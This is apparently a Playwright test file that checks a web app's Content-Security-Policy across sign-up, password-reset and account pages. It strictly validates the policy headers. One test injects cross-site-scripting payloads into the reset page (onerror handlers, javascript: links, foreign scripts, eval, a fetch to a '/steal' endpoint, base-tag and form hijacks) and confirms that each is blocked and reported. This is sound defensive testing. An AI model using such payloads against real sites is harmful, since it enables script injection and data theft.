// W12: the whole flow under its Content-Security-Policy, with every report collected; and the policy at work on what is injected.
import { expect, NEW_PASSWORD, PASSWORD, test as base } from "./support/fixtures.js";
import { Front } from "./support/front.js";
import { Stranger } from "./support/stranger.js";
import * as step from "./support/steps.js";

const test = base.extend({
  front: [
    async ({}, use) => {
      const front = await Front.start();
      await use(front);
      await front.stop();
    },
    { scope: "worker", timeout: 60_000 },
  ],
  server: [async ({ front }, use) => use(front.server), { scope: "worker" }],
  baseURL: async ({ front }, use) => use(front.url),
});

test.beforeEach(({ front }) => {
  front.reports.length = 0;
  front.policies.length = 0;
});

/** Scripts run by nonce and from our own files; of what is unsafe, WebAssembly alone. A mail in its frame runs none at all. */
function strict({ path, policy }) {
  const parts = policy.split(";").map((part) => part.trim());
  const script = parts.find((part) => part.startsWith("script-src"));
  expect(policy, path).toContain("default-src 'none'");
  if (parts.some((part) => part.startsWith("sandbox"))) {
    expect(parts.find((part) => part.startsWith("sandbox")), path).not.toContain("allow-scripts");
    expect(script, path).toBeUndefined();
    return;
  }
  for (const word of ["unsafe-inline", "'unsafe-eval'", "unsafe-hashes", "strict-dynamic", "*", "http:", "https:", "blob:"]) {
    expect(policy, path).not.toContain(word);
  }
  // A file of the site has no nonce; a page with a stranger's mail takes scripts by nonce alone.
  if (script) expect(script, path).toMatch(/^script-src( 'self')?( 'nonce-[0-9a-f]{32}')?( 'wasm-unsafe-eval')?$/);
}

test("W12: the whole flow breaks no policy", async ({ page, front, mail, person }) => {
  // Sign up, look into the mailbox, verify.
  const enrolment = await step.enrol(page, mail, person.email);
  for (const view of ["html", "text", "headers", "source"]) {
    await page.goto(`/dev/mailbox/${enrolment.id}?view=${view}`);
    await expect(page.getByRole("main")).toBeVisible();
  }
  await step.follow(page, enrolment);
  await page.getByLabel("Username", { exact: true }).fill(person.username);
  await page.getByLabel("New password").fill(PASSWORD);
  await expect(page.locator(".meter.score-4")).toBeVisible();
  await step.press(page, "Make my account");
  await step.arrive(page, "Sign in");
  // Forget, follow, stumble, choose.
  await step.follow(page, await step.forget(page, mail, person));
  await step.prove(page, "somebody-else");
  await expect(step.summary(page)).toBeFocused();
  await step.prove(page, person.username);
  await step.arrive(page, "Your new password");
  await page.getByLabel("New password").fill("password1234567");
  await step.press(page, "Save the new password");
  await expect(step.summary(page)).toBeFocused();
  await step.choose(page);
  // The account page and its forms.
  await step.refusedIn(page, person.username, PASSWORD);
  await step.signedIn(page, person, NEW_PASSWORD);
  const form = step.section(page, "Change your address");
  await form.getByLabel("New email address").fill(`new-${person.email}`);
  await form.getByLabel("Current password").fill(NEW_PASSWORD);
  await step.press(page, "Mail a link to the new address");
  await expect(page.getByText("We mailed a link to the new address.")).toBeVisible();
  // Not me.
  await step.follow(page, await mail.wait(person.email, /password was changed$/));
  await page.getByLabel("Username", { exact: true }).fill(person.username);
  await step.press(page, "Freeze my account");
  await step.arrive(page, "Your account is frozen");

  for (const one of front.policies) strict(one);
  const pages = new Set(front.policies.map((one) => one.path));
  for (const path of ["/sign-up", "/verify", "/forgot", "/reset", "/reset/password", "/sign-in", "/account", "/not-me"]) {
    expect([...pages]).toContain(path);
  }
  expect([...pages].some((path) => /strength-worker/.test(path)), "the worker has a policy of its own").toBe(true);
  expect(front.reports).toEqual([]);
});

test("W12: the console breaks no policy", async ({ page, front, operator }) => {
  await step.signedIn(page, operator);
  for (const path of ["/console", "/console/smtp", "/console/outbox", "/console/domain"]) {
    await step.open(page, path);
    await expect(step.heading(page)).toBeVisible();
  }
  for (const one of front.policies) strict(one);
  expect(front.reports).toEqual([]);
});

test.describe("injected", () => {
  test.use({ tolerated: [/Content Security Policy|^policy: /] });

  test("W12: what is injected is blocked, and reported", async ({ page, front }) => {
    const stranger = await Stranger.start();
    await step.open(page, "/reset");
    const ran = await page.evaluate(async (elsewhere) => {
      const broken = [];
      addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
      document.body.insertAdjacentHTML(
        "beforeend",
        `<img src="${elsewhere}/pixel" onerror="globalThis.byHandler = 1"><style>body { --injected: 1 }</style>
         <p style="--attribute: 1" id="styled"></p><a id="js" href="javascript:globalThis.byLink = 1">x</a>`,
      );
      for (const [name, value] of [["text", "globalThis.inline = 1"], ["src", `${elsewhere}/x.js`]]) {
        const script = document.createElement("script");
        script[name] = value;
        document.body.append(script);
      }
      document.getElementById("js").click();
      // What a debugger evaluates may do this; what the page does later may not.
      await new Promise((done) => setTimeout(done));
      try {
        (0, eval)("globalThis.byEval = 1");
      } catch {
        // That is the policy.
      }
      await fetch(`${elsewhere}/steal`, { method: "POST", mode: "no-cors", body: "x" }).catch(() => {});
      const base = document.createElement("base");
      base.href = `${elsewhere}/`;
      document.head.append(base);
      const form = document.createElement("form");
      form.method = "post";
      form.action = `${elsewhere}/form`;
      document.body.append(form);
      form.submit();
      await new Promise((done) => setTimeout(done, 500));
      return {
        broken,
        ran: ["byHandler", "byLink", "inline", "byEval"].filter((name) => name in globalThis),
        styled: getComputedStyle(document.body).getPropertyValue("--injected")
          + getComputedStyle(document.getElementById("styled")).getPropertyValue("--attribute"),
        base: document.baseURI,
      };
    }, stranger.url);
    expect(ran.ran).toEqual([]);
    expect(ran.styled).toBe("");
    expect(ran.base).not.toContain(stranger.url);
    const wanted = ["img-src", "style-src-elem", "style-src-attr", "script-src-elem", "script-src-attr", "script-src", "connect-src", "base-uri", "form-action"];
    for (const directive of wanted) expect(ran.broken).toContain(directive);
    // Reports arrive, so that none in the other tests means none; nothing else did.
    const reported = () => front.reports.map((body) => JSON.parse(body)["csp-report"]["effective-directive"]);
    for (const directive of wanted) await expect.poll(reported).toContain(directive);
    expect(stranger.posted).toEqual([]);
    stranger.stop();
  });
});
